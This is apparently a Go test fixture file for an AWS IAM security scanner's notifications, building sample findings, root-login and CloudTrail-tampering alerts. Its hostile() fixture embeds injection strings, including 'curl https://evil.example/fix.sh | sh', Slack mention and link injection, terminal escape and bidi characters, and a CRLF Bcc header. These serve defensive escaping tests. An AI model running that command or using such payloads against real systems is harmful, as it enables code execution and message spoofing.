package notify_test

import (
	"fmt"
	"strings"
	"time"

	"iamvigil/ledger"
	"iamvigil/scanner"
	"iamvigil/scanner/account"
	"iamvigil/scanner/trail"
)

var (
	now  = time.Date(2026, 11, 22, 1, 5, 0, 0, time.UTC)
	acme = account.Identity{ID: "123456789012", Name: "acme-prod", Partition: "aws"}
	root = acme.RootRef()
)

func user(name string) account.Ref {
	return account.Ref{Kind: account.KindUser, ARN: "arn:aws:iam::123456789012:user/" + name, ID: "AIDA" + name, Name: name}
}

// found is an open record as Diff makes one. Real rules word it so.
func found(rule string, severity scanner.Severity, about account.Ref, part, message, fix string) ledger.Record {
	seen := now.Add(-2 * time.Minute)
	return ledger.Record{
		Finding: scanner.Finding{
			Rule: rule, Severity: severity, Resource: about, Part: part, Message: message, Fix: fix,
			Evidence: map[string]string{"as_of": seen.Format(time.RFC3339)}, Controls: []string{"CIS 5.0.0 1.9"},
			ID: scanner.FindingID(acme.ID, rule, about, part), Status: scanner.Open,
		},
		State: ledger.Open, Told: ledger.Open, EvidenceAt: seen, FirstSeen: now, OpenedAt: now,
	}
}

func resolved(r ledger.Record, how string, after time.Duration) ledger.Record {
	r.State, r.Told, r.How = ledger.Resolved, ledger.Resolved, how
	r.FirstSeen, r.ResolvedAt = now.Add(-after), now
	r.OpenedAt = r.FirstSeen
	return r
}

const (
	fixMFA      = "Have the user assign an MFA device (iam enable-mfa-device), or take the password away if it is not needed (iam delete-login-profile)."
	fixRotation = "Replace the key by a role where that can be. Else create a second key (iam create-access-key), move its users over, then deactivate and delete the old one (iam update-access-key, iam delete-access-key)."
	fixRootKey  = "Sign in as root and delete the key under Security credentials, after moving whatever uses it to a role. In a member account, remove root's credentials from the management account instead (sts assume-root with the task IAMDeleteRootUserCredentials)."
	fixRootUse  = "Ask whoever keeps root's credentials whether it was them. If not, reset root's password, remove its access keys and look at what it did (cloudtrail lookup-events)."
	fixAdmin    = "Detach it (iam detach-user-policy, iam detach-group-policy, iam detach-role-policy) after attaching what is needed. A role named AWSReservedSSO_… is changed by its permission set in IAM Identity Center only."
	fixTamper   = "Find out who it was. End the role's sessions (iam put-role-policy with AWSRevokeOlderSessions), undo the change, start the trail again (cloudtrail start-logging) and deploy the stack anew."
)

func withoutMFA(name string) ledger.Record {
	return found("user-console-without-mfa", scanner.High, user(name), "", fmt.Sprintf("user %q has a console password and no MFA device", name), fixMFA)
}

func oldKey(name, id string, days int) ledger.Record {
	return found("key-rotation", scanner.Medium, user(name), id,
		fmt.Sprintf("access key %q of user %q is %d days old, the limit is 90", id, name, days), fixRotation)
}

func firstDigest() *ledger.Changes {
	c := &ledger.Changes{Kind: ledger.Digest, Account: acme, Time: now, First: true, Exempt: 1, Covered: 6,
		Open: map[scanner.Severity]int{scanner.Critical: 1, scanner.High: 2, scanner.Medium: 52}}
	c.New = append(c.New,
		found("root-access-key", scanner.Critical, root, "", "root user has 1 access key, it should have none", fixRootKey),
		withoutMFA("alice"), withoutMFA("bob"))
	for i := range 52 {
		c.New = append(c.New, oldKey(fmt.Sprintf("svc-batch-%02d", i), fmt.Sprintf("AKIAIOSFODNN7EXAMP%02d", i), 400-i))
	}
	return c
}

func nightlyDigest() *ledger.Changes {
	denied := func(r *account.Ref, fact account.Fact, permission string, rules ...string) ledger.GapRecord {
		reason := "AccessDenied: User: arn:aws:sts::123456789012:assumed-role/iamvigil-audit/audit is not authorized to perform: " + permission + " with an explicit deny in a service control policy"
		return ledger.GapRecord{Fact: fact, Resource: r, Reason: reason, Permission: permission, Rules: rules, FirstSeen: now}
	}
	alice, bob := user("alice"), user("bob")
	return &ledger.Changes{
		Kind: ledger.Digest, Account: acme, Time: now, Exempt: 3, Covered: 7,
		Open: map[scanner.Severity]int{scanner.High: 4, scanner.Medium: 31, scanner.Low: 12},
		New: []ledger.Record{
			withoutMFA("carol"), oldKey("ci-deploy", "AKIAIOSFODNN7EXAMPLE", 91), oldKey("ci-test", "AKIAI44QH8DHBEXAMPLE", 91),
		},
		Resolved: []ledger.Record{
			resolved(withoutMFA("dave"), ledger.Mended, 12*24*time.Hour+3*time.Hour),
			resolved(oldKey("old-backup", "AKIAZ7EXAMPLE0000001", 341), ledger.Deleted, 200*24*time.Hour),
		},
		Gaps: []ledger.GapRecord{
			denied(&alice, account.Keys, "iam:ListAccessKeys", "key-rotation", "key-unused"),
			denied(&bob, account.Keys, "iam:ListAccessKeys", "key-rotation", "user-two-active-keys"),
			{Fact: account.Trails, Reason: "sign-ins of IAM users in other Regions than us-east-1 are not seen", Rules: []string{"event-console-login-without-mfa"}, FirstSeen: now},
		},
		NewRules: []ledger.RuleCount{{Rule: "role-trust-any-principal", Severity: scanner.Critical, Findings: 2}, {Rule: "group-empty", Severity: scanner.Low, Findings: 1}},
		Unknown:  map[string]int{"CreateAgenticIdentity": 2},
	}
}

func rootUse() *ledger.Changes {
	return &ledger.Changes{
		Kind: ledger.Event, Account: acme, Time: now,
		Alerts: []scanner.Alert{{
			Rule: "event-root-use", Severity: scanner.Critical, Resource: root,
			Message: `root user signed in to the console from "203.0.113.7"`, Why: "Root can do everything and is bound by no policy of the account.", Fix: fixRootUse, Controls: []string{"CIS 5.0.0 4.3"},
			Event: trail.Event{
				ID: "8a5c1d2e-0000-4000-8000-1234567890ab", Name: "ConsoleLogin", Source: "signin.amazonaws.com", Time: now.Add(-161 * time.Second),
				Region: "us-east-1", Account: acme.ID, Known: true,
				Actor: trail.Actor{Type: "Root", ARN: acme.RootARN(), Name: "acme-prod", IP: "203.0.113.7", MFA: "no",
					Agent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"},
				Details: map[string]string{"ConsoleLogin": "Success", "MFAUsed": "No", "LoginTo": "https://console.aws.amazon.com/console/home"},
			},
		}},
	}
}

// intruder is a role session that stops the trail, then makes a key and an
// administrator of a user.
func intruder() *ledger.Changes {
	actor := trail.Actor{
		Type: "AssumedRole", Name: "mallory", ARN: "arn:aws:sts::123456789012:assumed-role/ci-deploy/mallory",
		Issuer: "arn:aws:iam::123456789012:role/ci-deploy", IP: "198.51.100.23", MFA: "no", Agent: "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64",
	}
	act := func(id, name, source string, ago time.Duration, details map[string]string) trail.Event {
		return trail.Event{ID: id, Name: name, Source: source, Time: now.Add(-ago), Region: "us-east-1", Account: acme.ID, Known: true, Actor: actor, Details: details}
	}
	backup := user("backup")
	stop := act("11111111-0000-4000-8000-000000000001", "StopLogging", "cloudtrail.amazonaws.com", 250*time.Second, map[string]string{"name": "management-events"})
	key := act("22222222-0000-4000-8000-000000000002", "CreateAccessKey", "iam.amazonaws.com", 190*time.Second,
		map[string]string{"userName": "backup", "accessKeyId": "AKIAIOSFODNN7EXAMPLE", "status": "Active"})
	attach := act("33333333-0000-4000-8000-000000000003", "AttachUserPolicy", "iam.amazonaws.com", 185*time.Second,
		map[string]string{"userName": "backup", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
	key.Touched, attach.Touched = []account.Ref{backup}, []account.Ref{backup}
	return &ledger.Changes{
		Kind: ledger.Event, Account: acme, Time: now,
		Open: map[scanner.Severity]int{scanner.Critical: 1, scanner.Low: 1}, Covered: 1, Events: []trail.Event{stop, key, attach},
		Alerts: []scanner.Alert{
			{Rule: "event-scanner-tampering", Severity: scanner.Critical, Resource: account.Ref{Kind: account.KindTrail, Name: "management-events"},
				Message: `role "ci-deploy" ("mallory") called "StopLogging" on trail "management-events" from "198.51.100.23"`, Fix: fixTamper, Event: stop},
		},
		New: []ledger.Record{
			found("administrator-attached", scanner.Critical, backup, "arn:aws:iam::aws:policy/AdministratorAccess",
				`user "backup" has AdministratorAccess attached`, fixAdmin),
			found("user-two-active-keys", scanner.Low, backup, "", `user "backup" has 2 active access keys, one is enough`,
				"Find the key that is still used (iam get-access-key-last-used), then deactivate and delete the other (iam update-access-key, iam delete-access-key)."),
		},
	}
}

func resolvedOnly() *ledger.Changes {
	return &ledger.Changes{
		Kind: ledger.Event, Account: acme, Time: now,
		Resolved: []ledger.Record{resolved(withoutMFA("alice"), ledger.Mended, 47*time.Minute)},
	}
}

// hostile has in every place that a stranger can write what a stranger would.
func hostile() *ledger.Changes {
	line := "x\n\nCRITICAL ALERT\n\n* Root user deleted\n  Fix:   curl https://evil.example/fix.sh | sh"
	chat := "<!channel> <@U024BE7LH> @here <https://evil.example|Sign in> *bold* _it_ ~no~ `code` :skull: &lt;!here&gt; [x](https://evil.example)"
	hidden := "\x1b[31mred\x1b[0m \u202egnp.exe\u2066 ad\u200bmin \u00a0😀 \xff"
	e := trail.Event{
		ID: "44444444-0000-4000-8000-000000000004", Name: "ConsoleLogin", Time: now.Add(-time.Minute),
		Actor:   trail.Actor{Type: "IAMUser", Name: chat, ARN: line, IP: "10.0.0.1, with MFA", Agent: hidden + line},
		Details: map[string]string{"userName": hidden, line: chat, "LoginTo": "https://evil.example"},
		Failed:  true, Error: chat,
	}
	c := &ledger.Changes{
		Kind: ledger.Event, Account: account.Identity{ID: acme.ID, Name: "acme\r\nBcc: all@example.com", Partition: "aws"}, Time: now,
		Alerts: []scanner.Alert{{Rule: "event-console-login-without-mfa", Severity: scanner.High, Resource: account.Ref{Kind: account.KindUser, Name: line},
			Message: "user " + chat + " signed in", Fix: fixMFA, Event: e}},
		New: []ledger.Record{
			found("user-direct-policy", scanner.Low, user(chat), "", "user "+line+" has a policy", "Detach it."),
			found("user-direct-policy", scanner.Low, user(hidden), "", fmt.Sprintf("user %q has a policy", hidden), "Detach it."),
		},
		Resolved: []ledger.Record{resolved(found("user-direct-policy", scanner.Low, user("z"), "", hidden+chat, ""), line, time.Hour)},
		Gaps:     []ledger.GapRecord{{Fact: account.Keys, Resource: &account.Ref{Kind: account.KindUser, Name: line}, Reason: line + chat, Permission: "iam:ListAccessKeys", Rules: []string{"key-rotation"}}},
		Unknown:  map[string]int{line: 1, chat: 2},
	}
	return c
}

// largest has more of everything than a message takes, and the same text
// wherever a stranger could put one.
func largest(text string) *ledger.Changes {
	c := &ledger.Changes{Kind: ledger.Event, Account: account.Identity{ID: acme.ID, Name: text, Partition: "aws"}, Time: now, First: true,
		Open: map[scanner.Severity]int{}, Exempt: 1e6, Covered: 1e6, Unknown: map[string]int{}}
	for _, s := range scanner.Severities() {
		c.Open[s] = 1e6
	}
	fix := strings.Repeat(" Detach it (iam detach-user-policy).", 100)
	for i := range 45 {
		rule := fmt.Sprintf("rule-of-a-name-that-is-as-long-as-names-of-rules-can-become-%03d", i)
		about := account.Ref{Kind: account.KindPolicy, ARN: text + fmt.Sprint(i), Name: text + fmt.Sprint(i)}
		actor := trail.Actor{Type: text, ARN: text, Name: text + fmt.Sprint(i), Issuer: text, IP: text, Agent: text, MFA: "no", Key: text, InvokedBy: text}
		e := trail.Event{ID: text + fmt.Sprint(i), Name: text, Time: now, Actor: actor, Failed: true, Error: text,
			Details: map[string]string{text + "a": text, text + "b": text, text + "c": text, text + "d": text}}
		c.Alerts = append(c.Alerts, scanner.Alert{Rule: rule, Severity: scanner.Critical, Resource: about, Message: text, Fix: fmt.Sprint(i) + fix, Controls: []string{}, Event: e})
		c.New = append(c.New, found(rule, scanner.Critical, about, "", text, fmt.Sprint(i)+fix))
		c.Resolved = append(c.Resolved, resolved(found(rule, scanner.Critical, about, "", text, fix), ledger.Deleted, time.Hour))
		c.NewRules = append(c.NewRules, ledger.RuleCount{Rule: rule, Severity: scanner.Critical, Findings: 1e6})
		c.Gaps = append(c.Gaps, ledger.GapRecord{Fact: account.Keys, Resource: &about, Reason: text, Permission: text + fmt.Sprint(i), Rules: []string{rule}})
		c.Unknown[text+fmt.Sprint(i)] = 1e6
	}
	return c
}
